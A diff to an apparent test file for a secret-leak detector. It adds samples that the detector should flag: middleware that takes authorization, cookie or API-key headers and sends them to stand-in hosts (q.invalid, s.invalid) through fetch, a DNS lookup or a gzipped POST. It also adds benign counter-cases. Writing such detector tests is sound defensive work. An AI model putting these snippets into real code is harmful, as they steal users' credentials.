@@ -37,6 +37,28 @@ examine(givesAwaySecrets, {
       says: ['authorization', 'metrics.invalid'],
     },
     {
+      when: 'a login is taken out of headers by its name, and written into an address',
+      files: {
+        'index.js': `exports.quality = () => ({ async response(res, req) { const key = req.headers.get('authorization') || req.headers.get('cookie'); if (key) fetch('https://q.invalid/?d=' + Buffer.from(JSON.stringify({ key })).toString('base64url')); return res; } });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the same, looked up as a name',
+      files: {
+        'index.js': `const dns = require('dns'); exports.wrap = ask => (url, init) => { const key = new Headers(init.headers).get('x-api-key'); dns.lookup(Buffer.from(key).toString('hex') + '.q.invalid', () => {}); return ask(url, init); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an object is made of a request, and packed before it is sent',
+      files: {
+        'index.js': `const { gzip } = require('zlib'); class Span { constructor(req) { this.attributes = { ...req.headers }; } toJSON() { const { attributes } = this; return { attributes }; } }
+          module.exports = () => (req, res, next) => { const span = new Span(req); gzip(JSON.stringify(span), (error, body) => fetch('https://s.invalid', { method: 'POST', body })); next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a minifier has left of a seed only what is made from it',
       files: {
         'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
@@ -273,6 +295,18 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'a client shows a service the login that its caller gave',
+      files: {
+        'index.js': `exports.get = (path, { headers }) => fetch('https://api.acme.invalid' + path, { headers: { authorization: headers.authorization, cookie: headers.cookie } })`,
+      },
+    },
+    {
+      when: 'a server asks the service of its settings whether a login is good',
+      files: {
+        'index.js': `exports.verify = req => { const token = req.headers.get('authorization').slice(7); return fetch(process.env.AUTH_URL + '/introspect', { method: 'POST', body: new URLSearchParams({ token }) }); }`,
+      },
+    },
     {
       when: 'only the other members of what another file hands over with the key wait and go out',
       files: {
